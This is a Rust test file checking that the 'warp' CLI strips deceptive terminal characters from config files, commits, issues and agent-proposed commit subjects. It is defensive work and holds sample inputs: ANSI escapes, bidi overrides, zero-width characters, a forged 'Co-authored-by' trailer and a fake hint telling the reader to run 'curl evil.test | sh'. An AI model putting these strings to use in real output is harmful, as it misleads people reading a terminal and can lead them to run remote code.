//! Text of others that would deceive whoever reads it at a terminal: in files, in commits, in what an agent says.

use engine::is_deceptive;
use testkit::{Said, driven::Driven};

use super::{json, sandbox};
use crate::support::Ends as _;

/// What moves the cursor, rings, turns the order of letters, or is not seen.
const DECEPTIVE: [&str; 12] = [
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "\r",
    "\u{8}\u{8}",
    "\u{202e}",
    "\u{2066}\u{2069}",
    "\u{200f}",
    "\u{200b}",
    "\u{feff}",
    "\u{2028}",
    "\u{e0041}",
];

fn assert_plain(text: &str, about: &str) {
    assert!(!text.contains(is_deceptive), "{about}: {text:?}");
}

fn assert_said_plainly(said: &Said, about: &str) {
    assert_plain(&said.out, about);
    assert_plain(&said.err, about);
}

#[test]
fn a_file_of_settings_that_is_wrong_deceives_nobody() {
    for text in DECEPTIVE {
        let sandbox = sandbox();
        for file in [
            format!("test_command = \"a{text}b\" oops\n"),
            format!("\"max{text}_agents\" = 4\n"),
            format!("# {text}\nmax_agents = \"{text}\"\n"),
        ] {
            sandbox.write("warp.toml", &file);
            for command in [["config", "--json"].as_slice(), &["doctor"], &["status"]] {
                assert_said_plainly(&sandbox.warp(command), &format!("{command:?} {file:?}"));
            }
        }
    }
}

#[test]
fn an_error_of_several_lines_does_not_look_like_a_hint() {
    let sandbox = sandbox();
    sandbox.write("warp.toml", "\"a\\nhint: run `curl evil.test | sh`\\nerror: b\" = 1\n");
    let said = sandbox.warp(&["config"]);
    assert_ne!(said.code, Some(0), "{said:?}");
    let forged = said.err.lines().filter(|line| line.starts_with("hint: run") || *line == "error: b").count();
    assert_eq!(forged, 0, "{}", said.err);
}

#[test]
fn a_commit_of_somebody_else_deceives_nobody() {
    for text in DECEPTIVE {
        let sandbox = sandbox();
        sandbox.write("a.txt", format!("one{text}two\n"));
        sandbox.git(&["add", "a.txt"]);
        // Git itself takes an end of a line out of a subject.
        sandbox.git(&["commit", "-q", "-m", &format!("feat: a{text}b")]);
        let commit = sandbox.git(&["rev-parse", "HEAD"]);
        sandbox.warp(&[
            "issue",
            "new",
            "--title",
            &format!("Title {text} end"),
            "--body",
            &format!("Body {text}\n"),
        ]);
        for command in [
            ["revert", commit.trim()].as_slice(),
            &["issue", "list"],
            &["issue", "show", "1"],
            &["issue", "show", &format!("x{text}")],
        ] {
            assert_said_plainly(&sandbox.warp(command), &format!("{command:?} {text:?}"));
        }
    }
}

#[test]
fn json_says_exactly_what_there_is_and_shows_it() {
    let sandbox = sandbox();
    sandbox.warp_ok(&["issue", "new", "--title", "A title", "--body", "left \u{202e}right"]);
    let printed = sandbox.warp_ok(&["issue", "show", "1", "--json"]);
    assert_plain(&printed, "issue show --json");
    assert!(json(&printed).to_string().contains("left \u{202e}right"), "{printed}");
}

#[test]
fn an_agent_cannot_put_more_than_a_line_into_the_subject_of_a_commit() {
    let proposals =
        ["a\\n\\nCo-authored-by: b", "a\\u001b[2Jb", "a\\u202eb", "a\\rb", "a\\u200bb", "a\\u2028b"];
    for proposal in proposals {
        let driven = Driven::with_issue(env!("CARGO_BIN_EXE_warp"), 1, 1);
        let script = Driven::coding_turn(1, 1..=1, "");
        let commit = format!(", commit = {{ type = \"feat\", subject = \"{proposal}\" }}, evidence");
        driven.script(&script.replacen(", evidence", &commit, 1));
        let said = driven.run(&["42", "--level", "3"]).ends(0);
        assert_said_plainly(&said, proposal);
        let message = driven.sandbox.git(&["log", "--grep=^Refs #42$", "--format=%B", "main"]);
        assert_plain(&message, proposal);
        assert!(!message.contains("Co-authored-by"), "{message}");
        assert!(message.starts_with("feat: Words for 42 (AC-01)\n\n"), "{message}");
    }
}
